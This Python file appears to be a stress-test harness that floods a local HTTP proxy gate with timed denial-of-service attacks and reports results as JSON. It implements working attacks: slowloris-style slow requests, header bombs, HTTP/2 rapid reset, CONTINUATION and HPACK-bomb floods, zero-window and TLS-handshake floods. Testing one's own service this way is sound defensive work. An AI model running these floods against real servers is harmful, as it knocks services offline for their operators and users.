"""The floods, each bounded in time: `flood.py NAME PORT AGENT TOKEN SECONDS` prints what it did as JSON.

It is a process of its own, and a polite one, so that what is measured is the gate and not the machine.
"""

import asyncio
import base64
import collections
import itertools
import json
import os
import resource
import socket
import ssl
import struct
import sys
import time
from collections.abc import Awaitable, Callable

import hpack

from origin import API, PLAIN

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BATCH = 500
"""Frames written at once."""

done: collections.Counter[str] = collections.Counter()


class Target:
    """The gate, and the agent that floods it."""

    def __init__(self, port: int, agent: str, token: str, seconds: float) -> None:
        self.port = port
        self.end = time.monotonic() + seconds
        self.credential = "Proxy-Authorization: Basic " + base64.b64encode(f"{agent}:{token}".encode()).decode()
        self.tls = ssl.create_default_context()
        self.tls.check_hostname, self.tls.verify_mode = False, ssl.CERT_NONE

    def left(self) -> float:
        return max(0.0, self.end - time.monotonic())

    async def connect(self) -> "Wire":
        wire = Wire(*await asyncio.open_connection("127.0.0.1", self.port, limit=4096))
        wire.writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        done["connections"] += 1
        return wire

    async def tunnel(self, host: str = API) -> "Wire | None":
        """A tunnel with nothing inside, or nothing when it was refused."""
        wire = await self.connect()
        wire.writer.write(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n{self.credential}\r\n\r\n".encode())
        status = (await wire.reader.readuntil(b"\r\n\r\n")).split(b" ", 2)[1].decode()
        done[status] += 1
        if status == "200":
            return wire
        wire.close()
        return None

    async def http2(self, settings: bytes = b"") -> "Wire | None":
        wire = await self.tunnel()
        if wire is None:
            await asyncio.sleep(0.5)
            return None
        self.tls.set_alpn_protocols(["h2"])
        await wire.writer.start_tls(self.tls, server_hostname=API)
        wire.writer.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        return wire

    def plain(self, path: str, more: str = "", method: str = "GET") -> bytes:
        head = f"{method} http://{PLAIN}/allowed/{path} HTTP/1.1\r\nHost: {PLAIN}\r\n{self.credential}\r\n{more}"
        return head.encode()


class Wire:
    """One connection."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        await self.writer.drain()

    def close(self) -> None:
        self.writer.transport.abort()

    async def wait(self, seconds: float) -> bool:
        """Whether the connection ended within this time; what arrives is thrown away."""
        try:
            async with asyncio.timeout(seconds):
                while await self.reader.read(65536):
                    pass
            return True
        except TimeoutError:
            return False


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def block(path: str, method: str = "GET", more: list[tuple[str, str]] | None = None) -> bytes:
    fields = [(":method", method), (":scheme", "https"), (":authority", API), (":path", path)]
    return b"".join(b"\0" + literal(name) + literal(value) for name, value in fields + (more or []))


def literal(text: str) -> bytes:
    return hpack.hpack.encode_integer(len(text), 7) + text.encode()


Flood = Callable[[Target], Awaitable[None]]


async def again(target: Target, workers: int, once: Flood) -> None:
    """Does it in so many tasks, again and again, until the time is up."""

    async def work() -> None:
        while target.left():
            try:
                async with asyncio.timeout(target.left() + 0.1):
                    await once(target)
            except (OSError, EOFError, TimeoutError):
                done["ended"] += 1

    async with asyncio.TaskGroup() as group:
        for _ in range(workers):
            group.create_task(work())


async def slow_heads(target: Target) -> None:
    async def once(target: Target) -> None:
        wire = await target.connect()
        await wire.send(target.plain("x"))
        while not await wire.wait(1):
            await wire.send(b"X")
        done["cut off"] += 1

    await again(target, 1000, once)


async def slow_bodies(target: Target) -> None:
    async def once(target: Target) -> None:
        wire = await target.connect()
        await wire.send(target.plain("x", "Content-Length: 100000\r\n\r\n", "POST"))
        while not await wire.wait(0.5):
            await wire.send(b"X")

    await again(target, 500, once)


async def slow_reads(target: Target) -> None:
    async def once(target: Target) -> None:
        wire = await target.connect()
        wire.writer.transport.pause_reading()
        await wire.send(target.plain("large", "\r\n"))
        await asyncio.sleep(target.left())

    await again(target, 1000, once)


async def half_open_connects(target: Target) -> None:
    numbers = iter(range(10_000))

    async def once(target: Target) -> None:
        if next(numbers, None) is None:
            await asyncio.sleep(target.left())
            return
        wire = await target.tunnel()
        if wire is not None:
            await wire.wait(target.left())

    await again(target, 5000, once)


async def header_bombs(target: Target) -> None:
    bombs = itertools.cycle([
        target.plain("x", "X: y\r\n" * 5000 + "\r\n"),
        target.plain("x", "X: " + "y" * 500_000 + "\r\n\r\n"),
        target.plain("x", "Cookie: a=b\r\n" * 10_000 + "\r\n"),
        target.plain("x", "y" * 500_000 + ": x\r\n\r\n"),
        target.plain("x", f"X: {'y' * 150}\r\n" * 95 + "\r\n"),
    ])

    async def once(target: Target) -> None:
        wire = await target.connect()
        try:
            await wire.send(next(bombs))
            await wire.wait(2)
        finally:
            wire.close()

    await again(target, 32, once)


def frames(make: Callable[[int], bytes], settings: bytes = b"", workers: int = 4) -> Flood:
    """A flood of frames: `make` gives those for the n-th stream, counted from 0."""

    async def once(target: Target) -> None:
        wire = await target.http2(settings)
        if wire is None:
            return
        drain = asyncio.create_task(wire.wait(target.left()))
        try:
            for start in itertools.count(0, BATCH):
                await wire.send(b"".join(make(at) for at in range(start, start + BATCH)))
                done["frames"] += BATCH
                # Sending alone does not let the loop see that the connection has ended.
                await asyncio.sleep(0)
                if drain.done() or wire.writer.transport.is_closing():
                    done["cut off"] += 1
                    return
                if not target.left():
                    return
        finally:
            drain.cancel()
            wire.close()

    async def flood(target: Target) -> None:
        await again(target, workers, once)

    return flood


def rapid_reset(at: int) -> bytes:
    stream = 2 * at + 1
    request = frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/allowed/x"))
    return request + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_you_reset(at: int) -> bytes:
    """A stream that the server must reset itself."""
    stream = 2 * at + 1
    return frame(HEADERS, END_HEADERS, stream, block("/allowed/x", "POST")) + frame(WINDOW_UPDATE, 0, stream, bytes(4))


def continuation(at: int) -> bytes:
    if at == 0:
        return frame(HEADERS, END_STREAM, 1, block("/allowed/x"))
    return frame(CONTINUATION, 0, 1, b"\0" + literal("x") + literal("y" * 1000))


def empty_continuation(at: int) -> bytes:
    return frame(HEADERS, END_STREAM, 1, block("/allowed/x")) if at == 0 else frame(CONTINUATION, 0, 1)


def empty_data(at: int) -> bytes:
    return frame(HEADERS, END_HEADERS, 1, block("/allowed/x", "POST")) if at == 0 else frame(DATA, 0, 1)


def hpack_bomb(at: int) -> bytes:
    """One large entry of the table, then thousands of references to it in each request."""
    stream = 2 * at + 1
    entry = b"\x40" + literal("x") + literal("y" * 3000) if at == 0 else b""
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, block("/allowed/x") + entry + b"\xbe" * 10_000)


def table_updates(at: int) -> bytes:
    return frame(HEADERS, END_STREAM | END_HEADERS, 2 * at + 1, b"\x20\x3f\xe1\x1f" * 2000 + block("/allowed/x"))


def open_streams(at: int) -> bytes:
    return frame(HEADERS, END_HEADERS, 2 * at + 1, block("/allowed/x", "POST"))


async def zero_windows(target: Target) -> None:
    """Large replies over HTTP/2 for which there is never any room."""

    async def once(target: Target) -> None:
        wire = await target.http2(struct.pack(">HI", 4, 0))
        if wire is None:
            return
        streams = range(1, 100, 2)
        request = block("/allowed/large")
        await wire.send(b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, request) for stream in streams))
        done["streams"] += len(streams)
        await wire.wait(target.left())

    await again(target, 50, once)


async def handshakes(target: Target) -> None:
    """Tunnels whose only use is the work that a TLS handshake makes."""
    target.tls.set_alpn_protocols(["http/1.1"])

    async def once(target: Target) -> None:
        wire = await target.tunnel()
        if wire is not None:
            await wire.writer.start_tls(target.tls, server_hostname=API)
            done["handshakes"] += 1
            wire.close()

    await again(target, 64, once)


async def names(target: Target) -> None:
    numbers = iter(range(100_000))
    target.tls.set_alpn_protocols(["http/1.1"])

    async def once(target: Target) -> None:
        number = next(numbers, None)
        if number is None:
            await asyncio.sleep(target.left())
            return
        host = f"n{number}.example"
        wire = await target.tunnel(host)
        if wire is not None:
            await wire.writer.start_tls(target.tls, server_hostname=host)
            wire.close()

    await again(target, 64, once)


async def refusals(target: Target) -> None:
    async def once(target: Target) -> None:
        wire = await target.connect()
        await wire.send(f"GET http://{PLAIN}/allowed/x HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n".encode())
        status = (await wire.reader.readuntil(b"\r\n\r\n")).split(b" ", 2)[1].decode()
        done[status] += 1
        wire.close()

    await again(target, 64, once)


FLOODS: dict[str, Flood] = {
    "slow_heads": slow_heads,
    "slow_bodies": slow_bodies,
    "slow_reads": slow_reads,
    "half_open_connects": half_open_connects,
    "header_bombs": header_bombs,
    "rapid_reset": frames(rapid_reset),
    "made_you_reset": frames(made_you_reset),
    "continuation": frames(continuation),
    "empty_continuation": frames(empty_continuation),
    "empty_data": frames(empty_data),
    "hpack_bomb": frames(hpack_bomb),
    "table_updates": frames(table_updates),
    "open_streams": frames(open_streams),
    "handshakes": handshakes,
    "pings": frames(lambda at: frame(PING, 0, 0, bytes(8))),
    "settings": frames(lambda at: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, at))),
    "priorities": frames(lambda at: frame(PRIORITY, 0, 2 * at + 1, b"\0\0\0\0\1")),
    "unknown_frames": frames(lambda at: frame(0xFA, 0, 0, bytes(100))),
    "window_updates": frames(lambda at: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
    "zero_windows": zero_windows,
    "names": names,
    "refusals": refusals,
}


def main() -> None:
    name, port, agent, token, seconds = sys.argv[1:]
    os.nice(19)
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(FLOODS[name](Target(int(port), agent, token, float(seconds))))
    print(json.dumps(done))


if __name__ == "__main__":
    main()
